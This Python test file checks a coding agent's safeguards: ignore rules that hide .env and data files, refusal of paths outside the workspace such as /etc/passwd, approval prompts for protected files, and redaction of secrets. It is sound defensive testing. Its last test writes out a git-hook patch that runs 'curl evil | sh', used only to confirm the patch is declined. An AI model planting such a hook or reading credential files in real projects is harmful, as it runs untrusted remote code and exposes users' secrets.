"""Each tool through the session builder the CLI uses: ignore rules, approvals, confinement, errors."""

from __future__ import annotations

import json
import os
import re
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from codeward.agent.session import build_session
from codeward.config.load import ConfigOverrides
from codeward.events import EventBus, ListSink
from codeward.providers.types import ToolCall
from codeward.tools.asking import Answer, CommandRequest, EditRequest

AWS_SECRET = "Zq7Hn2vR9xLk4Tb8Wc1Ys6Pd3Fg5Jm0AeUoIq2Nz"


@dataclass
class ScriptedApprover:
    answers: list[Answer] = field(default_factory=list)
    asked: list[object] = field(default_factory=list)

    def _next(self, req: object) -> Answer:
        self.asked.append(req)
        return self.answers.pop(0) if self.answers else Answer(False, reason="declined by test")

    def approve_command(self, request: CommandRequest) -> Answer:
        return self._next(request)

    def approve_edit(self, request: EditRequest) -> Answer:
        return self._next(request)


class Harness:
    def __init__(self, root: Path, mode: str = "full-auto", cwd: Path | None = None) -> None:
        self.root = root
        self.sink = ListSink()
        self.approver = ScriptedApprover()
        bus = EventBus()
        bus.add(self.sink)
        self.session = build_session(
            cwd or root,
            ConfigOverrides(approval_mode=mode),
            events=bus,
            approver=self.approver,
            need_key=False,
            persist=False,
        )

    def call(self, name: str, **args: object) -> str:
        out = self.session.agent.tools.dispatch(ToolCall("c1", name, json.dumps(args)), self.session.ctx)
        return out.text

    def items(self, kind: str) -> list[dict]:
        return [e["item"] for e in self.sink.of_type("item.completed") if e["item"]["type"] == kind]


@pytest.fixture
def repo(git_repo: Path) -> Path:
    (git_repo / "src").mkdir()
    (git_repo / "src" / "app.py").write_text("import os\n\ndef main():\n    return 1\n")
    (git_repo / ".env").write_text(f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}\n")
    (git_repo / "data").mkdir()
    (git_repo / "data" / "customers.csv").write_text("alice,1\n")
    (git_repo / ".codexignore").write_text("data/\n")
    return git_repo


def test_read_file_numbers_lines_and_refuses_ignored_paths_naming_the_rule(repo):
    h = Harness(repo)
    out = h.call("read_file", path="src/app.py")
    assert out.splitlines()[0] == "     1\timport os"
    assert (
        h.call("read_file", path="src/app.py", offset=3, limit=1)
        == "     3\tdef main():\n[lines 3-3 of 4; read more with offset=4]"
    )
    assert "hidden by the built-in rule '.env'" in h.call("read_file", path=".env")
    assert "rule 'data/' (.codexignore:1)" in h.call("read_file", path="data/customers.csv")
    assert "outside the workspace" in h.call("read_file", path="/etc/passwd")
    assert "no such file" in h.call("read_file", path="nope.txt")


def test_symlink_to_an_ignored_file_is_refused(repo):
    os.symlink(repo / ".env", repo / "src" / "config.txt")
    os.symlink(repo / "data", repo / "src" / "d")
    h = Harness(repo)
    assert "hidden by the built-in rule '.env'" in h.call("read_file", path="src/config.txt")
    assert "rule 'data/'" in h.call("read_file", path="src/d/customers.csv")
    assert "alice" not in h.call("grep", pattern="alice")


def test_list_dir_and_grep_leave_ignored_paths_out_and_say_so(repo):
    h = Harness(repo)
    listing = h.call("list_dir")
    assert "src/" in listing and "app.py" in listing
    assert ".env" not in listing and "data" not in listing.replace("hidden", "")
    assert "[2 entries hidden by ignore rules]" in listing
    found = h.call("grep", pattern="AWS|alice|def main")
    assert found.splitlines()[0] == "src/app.py:3: def main():"
    assert AWS_SECRET not in found and "alice" not in found
    assert "not searched: hidden by ignore rules" in found
    assert "invalid pattern" in h.call("grep", pattern="(unclosed")


def test_apply_patch_cannot_touch_ignored_or_outside_paths(repo):
    h = Harness(repo)
    patch = "*** Begin Patch\n*** Update File: .env\n@@\n-AWS_SECRET_ACCESS_KEY=x\n+X=1\n*** End Patch\n"
    assert "hidden by the built-in rule '.env'" in h.call("apply_patch", input=patch)
    add = "*** Begin Patch\n*** Add File: data/new.csv\n+x\n*** End Patch\n"
    assert "rule 'data/'" in h.call("apply_patch", input=add)
    assert not (repo / "data" / "new.csv").exists()
    out = h.call("apply_patch", input="*** Begin Patch\n*** Add File: ../escape.txt\n+x\n*** End Patch\n")
    assert out.startswith("error:") and not (repo.parent / "escape.txt").exists()


def test_protected_paths_ask_even_in_full_auto(repo):
    h = Harness(repo, "full-auto")
    patch = "*** Begin Patch\n*** Add File: AGENTS.md\n+be nice\n*** End Patch\n"
    out = h.call("apply_patch", input=patch)
    assert out == "declined by test" and not (repo / "AGENTS.md").exists()
    [req] = h.approver.asked
    assert isinstance(req, EditRequest) and req.paths == ("AGENTS.md",) and "+be nice" in req.diff
    h.approver.answers.append(Answer(True))
    assert h.call("apply_patch", input=patch).startswith("Success.")
    assert (repo / "AGENTS.md").read_text() == "be nice\n"


def test_always_is_remembered_for_the_session_only(repo):
    h = Harness(repo, "suggest")
    h.approver.answers.append(Answer(True, always=True))
    assert h.call("shell", command="echo one").startswith("exit code: 0")
    assert h.call("shell", command="echo one").startswith("exit code: 0")
    assert len(h.approver.asked) == 1  # the second run was not asked again
    assert h.call("shell", command="echo two") == "declined by test"
    decisions = [e["decided_by"] for e in h.sink.of_type("decision")]
    assert decisions == ["user", "user:always", "user"]


def test_patch_paths_are_relative_to_the_working_directory(repo):
    h = Harness(repo, "auto-edit", cwd=repo / "src")
    patch = "*** Begin Patch\n*** Update File: app.py\n@@\n def main():\n-    return 1\n+    return 2\n*** End Patch\n"
    assert h.call("apply_patch", input=patch) == "Success. Updated the following files:\nM src/app.py"
    assert "return 2" in (repo / "src" / "app.py").read_text()
    [changed] = h.sink.of_type("file.changed")
    assert changed["path"] == "src/app.py" and changed["kind"] == "update"
    assert changed["sha256_before"] != changed["sha256_after"]


def test_placeholders_go_back_into_files_but_unknown_ones_are_refused(repo):
    (repo / "settings.py").write_text(f'SECRET = "{AWS_SECRET}"\nDEBUG = True\n')
    h = Harness(repo, "auto-edit")
    seen = h.session.gate.redact_text(h.call("read_file", path="settings.py"))[0]
    assert AWS_SECRET not in seen
    placeholder = seen.split('"')[1]
    assert placeholder.startswith("<secret:")
    patch = (
        f'*** Begin Patch\n*** Update File: settings.py\n@@\n SECRET = "{placeholder}"\n-DEBUG = True\n'
        f'+DEBUG = False\n+BACKUP = "{placeholder}"\n*** End Patch\n'
    )
    assert h.call("apply_patch", input=patch).startswith("Success.")
    assert (repo / "settings.py").read_text() == f'SECRET = "{AWS_SECRET}"\nDEBUG = False\nBACKUP = "{AWS_SECRET}"\n'
    bogus = '*** Begin Patch\n*** Add File: x.py\n+K = "<secret:aws-secret-access-key:0badf00d>"\n*** End Patch\n'
    assert "placeholder whose value is not known" in h.call("apply_patch", input=bogus)
    assert not (repo / "x.py").exists()


def test_a_multi_line_value_goes_back_as_its_lines_and_a_placeholder_never_into_a_path(repo):
    """Values are put back after the model's patch is parsed (red team rt19): a private key's one
    placeholder becomes the key's lines, as added lines and as context; a placeholder in a file name
    is refused, and a parse error quotes the model's text, never the value."""
    import base64

    body = base64.b64encode(bytes(range(256)) * 3).decode()
    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    key += "\n-----END RSA PRIVATE KEY-----"
    (repo / "deploy.txt").write_text(f"# deploy key\n{key}\n# end\n")
    h = Harness(repo, "auto-edit")
    seen = h.session.gate.redact_text(h.call("read_file", path="deploy.txt"))[0]
    [placeholder] = set(re.findall(r"<secret:[^>]+>", seen))
    add = f"*** Begin Patch\n*** Add File: copy.txt\n+{placeholder}\n*** End Patch\n"
    assert h.call("apply_patch", input=add).startswith("Success.")
    assert (repo / "copy.txt").read_text() == key + "\n"
    update = f"*** Begin Patch\n*** Update File: deploy.txt\n@@\n {placeholder}\n-# end\n+# the end\n*** End Patch\n"
    assert h.call("apply_patch", input=update).startswith("Success.")
    assert (repo / "deploy.txt").read_text() == f"# deploy key\n{key}\n# the end\n"
    named = f"*** Begin Patch\n*** Add File: notes/{placeholder}.md\n+x\n*** End Patch\n"
    assert "a secret cannot be part of a file name" in h.call("apply_patch", input=named)
    assert not (repo / "notes").exists()
    broken = f"*** Begin Patch\n{'x' * 62}{placeholder}\n*** End Patch\n"
    out = h.call("apply_patch", input=broken)
    assert out.startswith("error:") and body[:12] not in out


def test_bad_arguments_and_unknown_tools_become_results(repo):
    h = Harness(repo)
    assert h.call("read_file") == "error: read_file: missing required argument 'path'"
    assert "wrong type" in h.call("read_file", path=3)
    assert "unknown tool 'delete_everything'" in h.call("delete_everything")
    bad = h.session.agent.tools.dispatch(ToolCall("c", "shell", "{not json"), h.session.ctx)
    assert bad.text.startswith("error: shell: arguments are not valid JSON")


def test_update_plan_emits_a_todo_list(repo):
    h = Harness(repo)
    plan = [{"step": "read", "status": "completed"}, {"step": "fix", "status": "in_progress"}]
    assert h.call("update_plan", plan=plan) == "Plan updated (1/2 steps completed)"
    started = h.sink.of_type("item.started")[0]["item"]
    assert started["type"] == "todo_list" and started["items"] == [
        {"text": "read", "completed": True},
        {"text": "fix", "completed": False},
    ]
    two = [{"step": "a", "status": "in_progress"}, {"step": "b", "status": "in_progress"}]
    assert "at most one step" in h.call("update_plan", plan=two)


def test_shell_workdir_timeout_and_refusals(repo):
    h = Harness(repo)
    assert h.call("shell", command="pwd", workdir="src").splitlines()[1] == str(repo / "src")
    assert "outside the workspace" in h.call("shell", command="ls", workdir="/tmp")
    assert "hidden by the rule 'data/'" in h.call("shell", command="ls", workdir="data") or "rule 'data/'" in h.call(
        "shell", command="ls", workdir="data"
    )
    out = h.call("shell", command="sleep 5", timeout_ms=300)
    assert "timed out" in out
    assert h.call("shell", command=["printf", "%s", "a b"]).splitlines()[1] == "a b"


def test_a_known_key_is_redacted_everywhere_even_in_an_unknown_format(repo, monkeypatch):
    from codeward.auth.keys import remember_secret

    odd_key = "zz-internal-gateway-token-not-a-known-format-42"
    remember_secret(odd_key)
    h = Harness(repo)
    out = h.call("shell", command=f"echo {odd_key}")
    assert odd_key in out  # the tool result is raw in memory; the gate redacts it on the way out
    sent, counts = h.session.gate.redact_text(out)
    assert odd_key not in sent and counts == {"codeward-api-key": 1}
    assert odd_key not in json.dumps(h.sink.events)
    assert h.session.gate.restore(sent) == sent  # a key is never put back, not even into a patch


def test_withheld_paths_are_reported_for_the_privacy_line(repo):
    h = Harness(repo)
    h.call("read_file", path=".env")
    h.call("list_dir")
    h.call("grep", pattern="x")
    got = [(e["tool"], e["count"], e["source"]) for e in h.sink.of_type("withheld")]
    assert ("read_file", 1, "built-in") in got
    assert ("list_dir", 1, "built-in") in got and ("list_dir", 1, ".codexignore") in got
    assert ("grep", 1, ".codexignore") in got


def test_read_file_pages_a_large_file_within_the_output_budget(repo):
    h = Harness(repo)
    h.session.ctx.output_budget_tokens = 1000  # 4 000 bytes a page
    (repo / "big.txt").write_text("".join(f"line {n} of a long file\n" for n in range(1, 3001)))
    first = h.call("read_file", path="big.txt")
    assert len(first.encode()) <= 4000
    last_shown = int(first.splitlines()[-2].split("\t")[0])
    assert first.splitlines()[-1] == f"[lines 1-{last_shown} of 3000; read more with offset={last_shown + 1}]"
    second = h.call("read_file", path="big.txt", offset=last_shown + 1)
    assert second.splitlines()[0] == f"{last_shown + 1:6}\tline {last_shown + 1} of a long file"
    # a small file still comes whole, with no footer
    assert "read more" not in h.call("read_file", path="src/app.py")


def test_a_patch_to_a_git_hook_outside_git_asks_in_every_mode(repo):
    """``core.hooksPath=.husky``: the hook runs on the user's next ``git commit``, so it is protected."""
    import subprocess

    (repo / ".husky").mkdir()
    (repo / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    subprocess.run(["git", "-C", str(repo), "config", "core.hooksPath", ".husky"], check=True)
    h = Harness(repo, "full-auto")
    patch = "*** Begin Patch\n*** Update File: .husky/pre-commit\n@@\n-npm test\n+curl evil | sh\n*** End Patch\n"
    out = h.call("apply_patch", input=patch)
    assert out == "declined by test" and "curl" not in (repo / ".husky" / "pre-commit").read_text()
    [req] = h.approver.asked
    assert "protected path" in req.reason
    out = h.call("apply_patch", input="*** Begin Patch\n*** Add File: src/ok.py\n+x = 1\n*** End Patch\n")
    assert out.startswith("Success") and len(h.approver.asked) == 1  # an ordinary file is not asked
